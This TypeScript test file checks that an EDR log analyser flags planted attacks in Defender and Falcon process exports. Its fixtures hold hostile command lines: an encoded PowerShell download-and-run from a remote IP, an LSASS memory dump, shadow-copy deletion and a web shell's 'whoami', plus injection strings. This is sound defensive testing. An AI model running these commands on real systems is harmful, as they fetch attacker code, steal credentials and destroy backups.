// Process creations as EDR consoles export them: Defender for Endpoint's DeviceProcessEvents (the
// advanced-hunting CSV the portal downloads) and CrowdStrike Falcon's ProcessRollup2 events (JSON
// lines, as Falcon Data Replicator and Event Search write them). A macro's PowerShell download, an
// LSASS dump and shadow copies deleted, beside a fleet's browsers and services.
import { afterAll, describe, expect, it } from 'vitest';
import { analysePlanted, cleanupPlanted, listFindings, logFiles } from './plantedKit';
import { edrProcess } from '../../../src/core/analysis/edrEvents';

afterAll(cleanupPlanted);

const MDE_COLUMNS = ['Timestamp', 'DeviceId', 'DeviceName', 'ActionType', 'FileName', 'FolderPath', 'SHA1', 'SHA256', 'MD5', 'FileSize', 'ProcessId', 'ProcessCommandLine', 'ProcessIntegrityLevel', 'ProcessTokenElevation', 'ProcessCreationTime', 'AccountDomain', 'AccountName', 'AccountSid', 'AccountUpn', 'LogonId', 'InitiatingProcessAccountDomain', 'InitiatingProcessAccountName', 'InitiatingProcessFileName', 'InitiatingProcessFolderPath', 'InitiatingProcessId', 'InitiatingProcessCommandLine', 'InitiatingProcessParentFileName', 'ReportId'];
const csv = (v: string): string => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);

function deviceProcessEvents(): string[] {
  const rows = [MDE_COLUMNS.join(',')];
  let t = Date.UTC(2026, 11, 5, 8);
  const add = (device: string, account: string, image: string, cmd: string, parent: string, parentCmd: string): void => {
    t += 37_000;
    const ts = new Date(t).toISOString().replace('Z', '0000Z');
    const file = image.slice(image.lastIndexOf('\\') + 1);
    const r: Record<string, string> = {
      Timestamp: ts, DeviceId: '6f1e2d3c4b5a69788796a5b4c3d2e1f0a9b8c7d6', DeviceName: device, ActionType: 'ProcessCreated', FileName: file, FolderPath: image,
      SHA1: 'da39a3ee5e6b4b0d3255bfef95601890afd80709', SHA256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855', MD5: 'd41d8cd98f00b204e9800998ecf8427e', FileSize: '289792',
      ProcessId: String(4000 + rows.length), ProcessCommandLine: cmd, ProcessIntegrityLevel: 'Medium', ProcessTokenElevation: 'TokenElevationTypeLimited', ProcessCreationTime: ts,
      AccountDomain: 'corp', AccountName: account, AccountSid: 'S-1-5-21-1004336348-1177238915-682003330-1104', AccountUpn: `${account}@corp.example`, LogonId: '999',
      InitiatingProcessAccountDomain: 'corp', InitiatingProcessAccountName: account, InitiatingProcessFileName: parent.slice(parent.lastIndexOf('\\') + 1), InitiatingProcessFolderPath: parent,
      InitiatingProcessId: '3000', InitiatingProcessCommandLine: parentCmd, InitiatingProcessParentFileName: 'explorer.exe', ReportId: String(rows.length),
    };
    rows.push(MDE_COLUMNS.map((c) => csv(r[c] ?? '')).join(','));
  };
  // trap: the fleet's browsers, services and an admin's script run with -EncodedCommand that only reads the date
  for (let i = 0; i < 200; i++) {
    add(`ws-${i % 20}.corp.example`, `user${i % 20}`, 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"chrome.exe" --type=renderer --field-trial-handle=1234', 'C:\\Windows\\explorer.exe', 'explorer.exe');
    add(`ws-${i % 20}.corp.example`, 'system', 'C:\\Windows\\System32\\svchost.exe', 'svchost.exe -k netsvcs -p -s Schedule', 'C:\\Windows\\System32\\services.exe', 'services.exe');
  }
  add('ws-03.corp.example', 'admin.bob', 'C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe list shadows', 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe');
  // planted: a macro starts a hidden PowerShell download, then LSASS is dumped and the shadow copies go
  add('ws-07.corp.example', 'jdoe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', `powershell.exe -nop -w hidden -enc ${Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.45/a.ps1')", 'utf16le').toString('base64')}`, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', '"WINWORD.EXE" /n "C:\\Users\\jdoe\\Downloads\\Invoice.docm"');
  add('ws-07.corp.example', 'jdoe', 'C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full', 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe');
  add('ws-07.corp.example', 'jdoe', 'C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet', 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe');
  return rows;
}

function falconEvents(): string[] {
  const t0 = Date.UTC(2026, 11, 6, 9);
  const ev = (k: number, image: string, cmd: string, parent: string, user: string): string =>
    JSON.stringify({ event_simpleName: 'ProcessRollup2', timestamp: String(t0 + k * 60_000), aid: '9c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f', ComputerName: 'SRV-FILE01', event_platform: 'Win', ImageFileName: image, CommandLine: cmd, ParentBaseFileName: parent, UserName: user, SHA256HashData: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855', TargetProcessId: String(1000 + k) });
  const out: string[] = [];
  for (let k = 0; k < 100; k++) out.push(ev(k, '\\Device\\HarddiskVolume3\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k LocalService', 'services.exe', 'LOCAL SERVICE'));
  // planted: a web shell's child on the file server
  out.push(ev(200, '\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe', 'cmd.exe /c whoami /all', 'w3wp.exe', 'IIS APPPOOL\\DefaultAppPool'));
  // a non-process event of the same export is left alone
  out.push(JSON.stringify({ event_simpleName: 'DnsRequest', timestamp: String(t0), aid: '9c1d', DomainName: 'example.com' }));
  return out;
}

describe('EDR process tables', () => {
  it("Defender for Endpoint's DeviceProcessEvents and Falcon's ProcessRollup2 are read by the process rules; the fleet's own processes stay quiet", async () => {
    const found = await analysePlanted('edr-processes', (dir) => {
      const { put, files } = logFiles(dir);
      put('DeviceProcessEvents.csv', deviceProcessEvents());
      put('falcon-events.json', falconEvents());
      return files;
    });
    expect(found.map((f) => `${f.severity}:${f.entity}`).sort(), listFindings(found)).toEqual([
      'high:SRV-FILE01: a web or database server started a shell',
      'high:ws-07.corp.example: LSASS memory dumped',
      'high:ws-07.corp.example: an Office program started a shell',
      'high:ws-07.corp.example: backups and shadow copies deleted',
      'high:ws-07.corp.example: code downloaded with a built-in tool',
    ]);
    const macro = found.find((f) => f.entity.endsWith('an Office program started a shell'))!;
    expect(macro.explanation).toContain("Defender for Endpoint's DeviceProcessEvents");
    expect(macro.explanation).toContain('as corp\\jdoe');
    expect(macro.explanation).toContain('started by C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE');
    expect(found.find((f) => f.entity.startsWith('SRV-FILE01'))!.explanation).toContain("CrowdStrike Falcon's ProcessRollup2");
  }, 60_000);

  it('reads only process creations, and hostile text as text', () => {
    const row = (o: Record<string, string>): Map<string, string> => new Map(Object.entries(o));
    expect(edrProcess(1, row({ ActionType: 'ProcessCreated', FileName: 'cmd.exe', FolderPath: 'C:\\Windows\\System32', ProcessCommandLine: 'cmd.exe /c vssadmin delete shadows /all', DeviceName: 'pc1' }), 0, null, null)?.image).toBe('C:\\Windows\\System32\\cmd.exe');
    expect(edrProcess(1, row({ ActionType: 'OpenProcessApiCall', FileName: 'lsass.exe', ProcessCommandLine: 'procdump -ma lsass.exe' }), 0, null, null)).toBeNull();
    expect(edrProcess(1, row({ event_simpleName: 'NetworkConnectIP4', CommandLine: 'procdump -ma lsass.exe' }), 0, null, null)).toBeNull();
    for (const c of ['<script>alert(1)</script>', '=HYPERLINK("http://x","y")', 'a\u0000b', 'x'.repeat(100_000)]) expect(edrProcess(1, row({ ProcessCommandLine: c, FileName: c, FolderPath: c }), 0, null, null)).toBeNull();
  });
});
